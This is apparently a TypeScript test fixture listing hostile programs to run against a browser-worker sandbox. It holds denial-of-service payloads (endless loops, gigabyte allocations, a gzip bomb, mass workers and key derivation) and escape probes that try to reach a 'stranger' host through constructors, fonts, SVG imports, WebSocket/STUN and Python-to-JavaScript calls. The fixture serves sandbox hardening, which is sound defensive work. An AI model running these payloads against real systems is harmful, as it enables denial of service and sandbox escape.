import { javascript, python } from '../../web/support/hostile-programs.ts';
import { tries, written, type Attack, type Targets } from './attacks.ts';

/** Programs that want the page's time and memory, and those that use what is seldom used. */
export function heavyAttacks({ stranger }: Targets): readonly Attack[] {
  const blob = (text: string) =>
    `URL.createObjectURL(new Blob([${JSON.stringify(text)}], { type: 'text/javascript' }))`;
  const inPython = (what: string, text: string, more: Partial<Attack> = {}): Attack => ({
    what,
    written: 'python',
    ...more,
    text: `${text}\n${python('')}\n`,
  });
  return [
    tries(
      'a report of a few million objects',
      `const step = Array.from({ length: 3e6 }, (_, at) => ({ at, more: [at] })); tell(report({ searches: 1, notes: { ...empty, step } })); return 'told';`,
    ),
    tries(
      'a report with a million fields',
      `const line = {}; for (let at = 0; at < 1e6; at++) line['field' + at] = { at }; tell({ kind: 'done', report: line }); return 'told';`,
    ),
    tries(
      'a sign of life with memory of a gigabyte',
      `const memory = new Uint8Array(1e9); tell({ kind: 'alive', line: memory }); return 'told';`,
    ),
    tries(
      'a report whose lists are views of one gigabyte',
      `const memory = new ArrayBuffer(1e9); tell(report({ notes: { step: new Float64Array(memory), node: memory, line: memory, name: memory, value: memory, names: memory } })); return 'told';`,
    ),
    tries(
      'a message whose fields are read slowly',
      `setTimeout(() => tell({ get kind() { const end = Date.now() + 3000; while (Date.now() < end); return 'done'; } }), 10); return after(100);`,
    ),
    written(
      'a message whose fields are never read to their end',
      `tell({ get kind() { for (;;); } });`,
      { endless: true },
    ),
    written(
      'an error whose place takes for ever',
      `Error.prepareStackTrace = () => { for (;;); }; throw new Error(evil);`,
      { endless: true },
    ),
    written('an error of a hundred megabytes', `throw new Error('x'.repeat(1e8));`),
    written(
      'errors without an end, of which the page is told',
      `outlive(); self.addEventListener('error', (event) => event.stopImmediatePropagation(), true); const fail = () => { setTimeout(fail); setTimeout(fail, 1); throw new Error(evil.repeat(1000)); }; fail();`,
    ),
    written(
      'memory of WebAssembly without an end',
      `outlive(); globalThis.all = []; for (;;) try { const memory = new WebAssembly.Memory({ initial: 1000, maximum: 65536 }); all.push(memory); } catch {}`,
      { endless: true },
    ),
    // Files of memory without an end are not among them: a worker that had kept `Blob` would take the memory of its
    // whole process. A program finds none, which tests/browser/program/hostile.test.ts shows.
    written(
      'pictures without an end',
      `outlive(); globalThis.all = []; const C = reach('OffscreenCanvas'); const more = () => { try { const it = new C(8192, 8192); it.getContext('2d').fillRect(0, 0, 8192, 8192); all.push(it); const gl = new C(64, 64); all.push(gl, gl.getContext('webgl2')); } catch {} if (all.length < 300) setTimeout(more); }; more();`,
      { endless: true },
    ),
    written(
      'two hundred workers',
      `outlive(); const W = reach('Worker'); const address = ${blob(`onmessage = () => 0; for (let end = Date.now() + 200; Date.now() < end; );`)}; for (let at = 0; at < 200; at++) new W(address);`,
      { endless: true },
    ),
    written(
      'no promises, no time, no symbols',
      `outlive(); for (const it of [Promise, Promise.prototype, Symbol, Date, performance, Object, Reflect, Function.prototype, EventTarget.prototype]) for (const name of Object.getOwnPropertyNames(it)) try { it[name] = () => { throw evil; }; } catch {} for (;;);`,
      { endless: true },
    ),
    written(
      'a module that waits for itself',
      `outlive(); const wait = new Promise(() => 0); (async () => { for (;;) await null; })();`,
      { endless: true },
    ),
    tries(
      'a module of another type',
      `const said = []; for (const type of ['json', 'css', 'text', 'bytes']) try { said.push(await import('${stranger}module.' + type, { with: { type } })); } catch (error) { said.push(error.name); } if (said.every((each) => typeof each === 'string')) throw said; return said;`,
    ),
    tries(
      'a picture that loads another',
      `const svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="9" height="9"><style>@import url(${stranger}import.css); @font-face { font-family: a; src: url(${stranger}a.woff) } text { font-family: a }</style><image x:href="${stranger}image.png" width="9" height="9"/><text y="9">a</text></svg>'; const it = await reach('createImageBitmap')(new Blob([svg], { type: 'image/svg+xml' })); return it.width;`,
    ),
    tries(
      'a font of a sheet, and those that a canvas may have',
      `const fonts = reach('fonts'); fonts.add(new (reach('FontFace'))('a', 'url(${stranger}a.woff2)')); fonts.add(new (reach('FontFace'))('b', 'local(Arial), url("${stranger}b.woff2")')); const it = new (reach('OffscreenCanvas'))(9, 9).getContext('2d'); it.font = '9px a, b'; it.fillText(evil, 0, 9); return (await Promise.race([fonts.load('9px a'), after(500)])) ?? 'late';`,
    ),
    tries(
      'the graphics card',
      `const adapter = await reach('navigator').gpu.requestAdapter(); return (await adapter.requestDevice()).label;`,
    ),
    tries(
      'names and looks of what is around it',
      `self.name = evil; return JSON.stringify([self.name, self.origin, self.location.href, self.location.ancestorOrigins?.[0], self.isSecureContext, self.crossOriginIsolated, self.referrer]);`,
    ),
    tries(
      'every constructor of the worker, with an address',
      `const said = []; for (const name of Object.keys(globalThis.kept)) if (/^[A-Z]/.test(name) && !/^(Worker|SharedWorker)$/.test(name)) for (const given of [['${stranger}' + name], ['${stranger}'.replace('http', 'ws') + name], [{ url: '${stranger}' + name, urls: '${stranger}' + name }], [name, { url: '${stranger}' + name, iceServers: [{ urls: 'stun:${new URL(stranger).host}' }] }]]) try { new kept[name](...given); said.push(name); } catch {} await after(300); return said.length;`,
    ),
    tries(
      'every function of the worker, with an address',
      `let count = 0; for (const [name, it] of Object.entries(globalThis.kept)) if (/^[a-z]/.test(name) && typeof it === 'function' && !/^(postMessage|close|setTimeout|setInterval|isDeaf)$/.test(name)) try { const got = it.call(self, '${stranger}' + name); got?.catch?.(() => 0); count++; } catch {} for (const name of Object.getOwnPropertyNames(Object.getPrototypeOf(reach('navigator')))) try { const it = reach('navigator'); const got = it[name]('${stranger}' + name); got?.catch?.(() => 0); count++; } catch {} await after(300); return count;`,
    ),
    tries(
      'what can be handed over, as the report',
      `const said = []; const { port1, port2 } = new (reach('MessageChannel'))(); const things = [port2, new (reach('OffscreenCanvas'))(9, 9), new ReadableStream(), new WritableStream(), new TransformStream(), new ArrayBuffer(8)]; for (const it of things.slice(0, 1)) try { tell(report({ output: it, notes: it }), [it]); said.push('told'); } catch (error) { said.push(error.name); } return said;`,
    ),
    {
      what: 'a text that turns around',
      written: 'javascript',
      text: `${javascript('')}\nconsole.log('\\u202e\\u2066\\u2067\\u2068evil\\u2028\\u2029\\u0000\\u0007\\u001b[31m'.repeat(400)); throw new Error('\\u202e'.repeat(400));`,
    },
    tries(
      'a trace of as many characters as one may have, in one line',
      `const text = 'x'.repeat(1.7e8); tell(report({ searches: 1, trace: '{"prunus":1}\\n{"event":"enter","move":"' + text + '"}\\n{"event":"leave","value":1}\\n' })); return 'told';`,
    ),
    tries(
      'a trace of as many characters as one may have, in a million lines',
      `const line = '{"event":"enter","move":"' + 'x'.repeat(100) + '"}\\n'; tell(report({ searches: 1, trace: '{"prunus":1}\\n' + line.repeat(5.9e5) + '{"event":"leave","value":1}\\n'.repeat(5.9e5) })); return 'told';`,
    ),
    tries(
      'notes of as many characters as they may have',
      `const value = Array.from({ length: 7900 }, (_, at) => at + 'x'.repeat(49900)); const flat = value.map(() => 0); tell(report({ searches: 1, trace: '{"prunus":1}\\n{"event":"enter"}\\n{"event":"leave","value":1}\\n', notes: { step: flat, node: flat, line: flat, name: flat, value, names: ['x'] } })); return 'told';`,
    ),
    tries(
      'more searches before the last than one may have',
      `const one = '{"before":"' + 'x'.repeat(49000) + '"}\\n{"prunus":1}\\n{"event":"enter"}\\n{"event":"leave","value":1}\\n'; tell(report({ searches: 9, root: '[1]', trace: one.repeat(3600) })); return 'told';`,
    ),
    written(
      'errors that are told of by its own hand',
      `outlive(); const odd = { get message() { for (;;); }, get stack() { for (;;); } }; for (let at = 0; at < 1e5; at++) reach('reportError')(at % 2 === 0 ? evil : new Error(evil)); reach('reportError')(odd);`,
      { endless: true },
    ),
    ...[
      `Object.assign(new Error(evil), { name: 'x'.repeat(1e7), cause: null })`,
      `Object.defineProperty(new Error(evil), 'stack', { get() { throw this; } })`,
      `Object.assign(Object.create(null), { message: evil })`,
      `{ [Symbol.toPrimitive]() { throw this; }, get [Symbol.toStringTag]() { throw this; } }`,
      `new AggregateError(Array.from({ length: 1e5 }, () => new Error(evil)), evil)`,
      `Symbol(evil)`,
      `10n ** 100000n`,
      `new Proxy(new Error(evil), { get() { throw evil; }, getPrototypeOf() { throw evil; } })`,
    ].map((thrown) => written(`to throw ${thrown}`, `throw ${thrown};`)),
    ...[
      '-0',
      '2n ** 64n',
      '1e999',
      'new Number(3)',
      '{ valueOf() { throw 7; } }',
      'new Proxy([3, 0], { get() { throw 7; } })',
      'Object(Symbol("x"))',
      '(function* () { for (;;) yield 3; })()',
      'new Proxy(() => 3, {})',
    ].map((value) => ({
      what: `to give back ${value}`,
      written: 'javascript' as const,
      text: javascript(`if (node === 12) return ${value};`),
    })),
    written(
      'names of a million characters',
      `const name = 'x'.repeat(1e6); for (let at = 0; at < 50; at++) try { search([[3, 12], [2, 4]].map((each) => Object.assign(each, { [name + at]: at })), true); } catch {} tell(report({ searches: 1, notes: { ...empty, names: Array(100).fill(name) } }));`,
    ),
    written(
      'generators that go on for ever',
      `outlive(); async function* on() { for (;;) yield await null; } for (let at = 0; at < 50; at++) (async () => { for await (const it of on()) globalThis.last = it; })();`,
      { endless: true },
    ),
    written(
      'memory that grows while it is told of',
      `const memory = new ArrayBuffer(8, { maxByteLength: 1e9 }); const step = new Uint8Array(memory); tell(report({ notes: { ...empty, get step() { memory.resize(1e9); return step; } } })); const shared = new SharedArrayBuffer(8, { maxByteLength: 2e9 }); shared.grow(2e9); tell({ kind: 'alive', line: 1 });`,
    ),
    written(
      'what nothing holds any more, for ever',
      `outlive(); const gone = new FinalizationRegistry(() => { for (let at = 0; at < 1000; at++) gone.register({ at }, at); }); const more = () => { for (let at = 0; at < 1e4; at++) gone.register({ weak: new WeakRef({ at }) }, at); setTimeout(more); }; more();`,
      { endless: true },
    ),
    written(
      'keys that take an hour',
      `outlive(); const { subtle } = reach('crypto') ?? {}; const key = async () => subtle.importKey('raw', new Uint8Array(8), 'PBKDF2', false, ['deriveBits']); for (let at = 0; at < 40; at++) key().then((it) => subtle.deriveBits({ name: 'PBKDF2', hash: 'SHA-512', salt: new Uint8Array(8), iterations: 2 ** 32 - 1 }, it, 512)).catch(() => 0);`,
      { endless: true },
    ),
    written(
      'locks and files of its own without an end',
      `outlive(); const it = reach('navigator'); for (let at = 0; at < 1e4; at++) { try { it.locks.request(bait + at, () => new Promise(() => 0)).catch(() => 0); } catch {} try { it.storage.estimate().catch(() => 0); it.storage.getDirectory().catch(() => 0); } catch {} }`,
      { endless: true },
    ),
    written(
      'a bomb that is packed',
      `outlive(); const D = reach('DecompressionStream'); (async () => { const packed = await new Response(new Blob([new Uint8Array(2e7)]).stream().pipeThrough(new (reach('CompressionStream'))('gzip'))).arrayBuffer(); globalThis.all = []; for (;;) all.push(await new Response(new Blob([packed]).stream().pipeThrough(new D('gzip'))).arrayBuffer()); })().catch(() => 0);`,
      { endless: true },
    ),
    written(
      'copies without an end of what is large',
      `outlive(); let all = []; for (;;) try { all = structuredClone([all, new Array(1e5).fill({})]); } catch { all = []; }`,
      { endless: true },
    ),
    written(
      'frames of pictures, handed over',
      `const C = reach('OffscreenCanvas'); for (let at = 0; at < 3; at++) { const it = new C(1024, 1024); it.getContext('2d').fillRect(0, 0, 9, 9); const picture = it.transferToImageBitmap(); try { tell({ kind: 'alive', line: 1, picture }, [picture]); } catch {} }`,
    ),
    inPython(
      'its own constructors',
      `import js
for name in ("Object", "Array", "JSON", "Reflect", "Promise", "kept"):
    try:
        make = getattr(js, name).constructor.constructor
        print(make("return fetch('${stranger}constructor')")())
    except BaseException as error:
        print(error)
try:
    print(js.Reflect.construct(js.Function, js.JSON.parse('["return 1"]'))())
except BaseException as error:
    print(error)`,
    ),
    inPython(
      'modules of a small machine',
      `for name in ("jsffi", "machine", "micropython", "uctypes", "os", "vfs", "network", "socket", "asyncio", "_thread", "sys", "builtins", "gc", "ssl", "select", "importlib"):
    try:
        it = __import__(name)
        print(name, [each for each in dir(it)][:40])
        if name == "uctypes":
            print(it.bytearray_at(0, 100000)[:4])
        if name == "machine":
            it.mem32[0] = 7
        if name == "micropython":
            it.heap_lock()
    except BaseException as error:
        print(name, error)`,
    ),
    inPython(
      'memory without an end',
      `all = []
while True:
    try:
        all.append(bytearray(1000000))
    except MemoryError:
        pass`,
      { endless: true },
    ),
    inPython(
      'a function of the page that calls back',
      `import js
def again(*said):
    js.setTimeout(again, 0)
    js.queueMicrotask(again)
try:
    again()
except BaseException as error:
    print(error)
while True:
    pass`,
      { endless: true },
    ),
  ];
}
